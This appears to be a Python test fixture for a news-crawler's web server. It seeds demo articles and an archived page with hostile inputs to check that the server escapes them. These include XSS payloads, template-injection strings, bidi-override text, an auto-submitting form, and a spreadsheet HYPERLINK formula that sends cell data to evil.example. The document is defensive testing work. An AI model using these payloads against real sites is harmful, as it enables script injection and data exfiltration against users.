"""The demo's articles with a few hostile ones among them, and ``kyket serve`` over them."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from crawlers.registry import load_registry
from demo.process import DemoProcess
from demo.registry import write_registry
from kyket.workspace import site_infos
from pipelines.archive import ArchiveWriter
from pipelines.article import VIETNAM, Article, DateProvenance, Page, page_id
from pipelines.health.gaps import BLOCKED
from pipelines.health.records import Condition, Gap, Measures, State, Trouble, Week
from pipelines.store import Store
from search import SqliteBackend, update

KYKET = str(Path(sys.executable).with_name("kyket"))
SITE = "vnpt.demo"
BIDI = "\u202egnud iôn\u202c \u2066\u200f"
NOON = datetime(2026, 6, 10, 5, 0, tzinfo=UTC)

HOSTILE = {
    "script": '<script>document.title="owned"</script> Ký kết',
    "attribute": '" onmouseover="document.title=\'owned\'" x="',
    "image": "<img src=x onerror=\"document.title='owned'\"> phối hợp",
    "template": "{{ 7 * 7 }} {% raw %} ${7*7} phối hợp",
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"ký kết")',
    "bidi": f"Ký kết {BIDI} phối hợp",
    "closing": "</title></textarea></svg><svg onload=alert(1)> ký kết",
}
"""By name the title of a hostile article; its text says the same."""

HOSTILE_PAGE = """<!doctype html><title>as it was</title>
<meta http-equiv="refresh" content="0; url=/owned">
<base href="http://evil.example/">
<p id="said">as it was</p>
<script>document.title = document.getElementById("said").textContent = "owned"; top.location = "/owned";</script>
<script src="/static/kyket.js"></script>
<img src="http://evil.example/x.png" onerror="document.title='owned'">
<link rel="stylesheet" href="http://evil.example/x.css">
<iframe src="/marks"></iframe><object data="/"></object>
<form action="/marks" method="post"><input name="star" autofocus onfocus="this.form.submit()"></form>
<svg onload="alert(1)"></svg><a id="out" href="javascript:alert(1)" ping="/owned">ra</a>
"""
"""A page of the archive that tries everything."""


def environment(var: Path) -> dict[str, str]:
    """Of a kyket that works in ``var`` alone."""
    kept = {name: value for name, value in os.environ.items() if not name.startswith("KYKET_")}
    return kept | {"KYKET_VAR": str(var), "KYKET_PACKAGE_SITES": "false", "COLUMNS": "200"}


def made_var(var: Path) -> Path:
    """``var`` with both days of the demo crawled, and the hostile articles stored and indexed."""
    for edition in (1, 2):
        with DemoProcess(edition, free_ports=True, flood_control=False) as served:
            sites = [path.stem for path in write_registry(var / "sites", served.ports)]
            subprocess.run(
                [KYKET, "run", *sites], env=environment(var), cwd=var, check=True, capture_output=True, timeout=600
            )
    with Store.open(f"sqlite:///{var / 'kyket.sqlite'}") as store, SqliteBackend(var / "index.sqlite") as backend:
        for name, title in HOSTILE.items():
            one = hostile(name, title)
            store.save_outcomes([(one.id, one, "crawl")], NOON)
        kept = _archived(var)
        store.save_outcomes([(kept.id, kept, "crawl")], NOON)
        edited = replace(hostile("script", HOSTILE["script"]), lead="<b onclick=alert(1)>sửa</b>")
        store.save_outcomes([(edited.id, edited, "crawl")], NOON)
        while store.place_due():
            pass
        update(backend, store, site_infos(load_registry(var / "sites", package=False)))
    return var


def hostile(name: str, text: str, **fields: object) -> Article:
    """An article with ``text`` wherever a text can be."""
    url = f"https://{SITE}/hostile-{name}"
    values: dict[str, object] = {
        "id": page_id(SITE, url),
        "url": url,
        "canonical_url": "javascript:document.title='owned'" if name == "script" else url,
        "site": SITE,
        "title": text,
        "lead": text,
        "body": (text, f"{'' if name == 'copy' else 'hostile'} {name} {text}"),
        "captions": (text,),
        "byline": text,
        "published": datetime(2026, 6, 11, 9, 30, tzinfo=VIETNAM),
        "published_raw": text,
        "published_from": DateProvenance("page", "minute"),
        "modified": None,
        "language": "vi",
        "province": "Lâm Đồng",
        "province_now": "Lâm Đồng",
        "source_name": text,
    }
    return Article(**(values | fields))  # type: ignore[arg-type]


def hostile_copy() -> Article:
    """The article whose archived page is :data:`HOSTILE_PAGE`."""
    return hostile("copy", "Bản lưu")


def _archived(var: Path) -> Article:
    one = hostile_copy()
    page = Page(
        one.url, one.url, SITE, NOON, 200, (("Content-Type", "text/html; charset=utf-8"),), HOSTILE_PAGE.encode()
    )
    with ArchiveWriter(var / "archive") as writer:
        return replace(one, archive=writer.write(page))


@contextmanager
def serving(var: Path, *options: str) -> Iterator[str]:
    """``kyket serve`` over ``var`` on a free port; its address, without a slash at the end."""
    process = subprocess.Popen(
        [KYKET, "serve", "--port", "0", *options], env=environment(var), cwd=var, stdout=subprocess.PIPE, text=True
    )
    try:
        assert process.stdout is not None
        address = process.stdout.readline().split()[0].rstrip("/")
        yield address
    finally:
        process.terminate()
        process.wait(timeout=120)


BROKEN_SITE = "nukeviet.demo"


def troubled(store: Store, now: datetime) -> None:
    """Have :data:`BROKEN_SITE` bring no dates since yesterday, with a gap before, as a look at its health keeps it."""
    health = store.health()
    standing = next(one for one in health.standings() if one.site == BROKEN_SITE)
    day = timedelta(days=1)
    trouble = Trouble(
        id=0,
        site=BROKEN_SITE,
        state=State.BROKEN,
        since=now - day,
        opened_at=now - day,
        evidence=(
            "12 of the last 14 pages have no date (usually 0.5%)",
            "14 of the last 14 pages have a template that was not known (usually 1.0%)",
        ),
        remedy=(
            f"`kyket sites check {BROKEN_SITE}` shows what comes out now, `kyket sites propose {BROKEN_SITE}` suggests "
            f"selectors for its entry; then `kyket reextract --site {BROKEN_SITE} --since 2026-06-09 --dry-run` "
            "repairs what was fetched since"
        ),
    )
    weeks = tuple(Week(now - (12 - place) * 7 * day, 20 if place < 11 else 4, 19.5) for place in range(12))
    measures = Measures(
        articles_day=2.8, articles_week=4, weeks=weeks, newest=now - day, last_look=now, silence=0.4,
        outcomes={"article": 1.0}, filled={"title": (1.0, 1.0), "date": (0.14, 0.99)}, length=(1800, 2400.0),
        template=0.2, family="nukeviet",
    )  # fmt: skip
    condition = Condition(BROKEN_SITE, State.BROKEN, now, trouble.since, trouble.evidence, trouble.remedy, (), measures)
    health.note([replace(standing, state=State.BROKEN, at=now)], [condition])
    health.open_trouble(trouble)
    health.keep_gaps(BROKEN_SITE, [Gap(BROKEN_SITE, now - 30 * day, now - 25 * day, BLOCKED, 2, 14.2)], now - 100 * day)
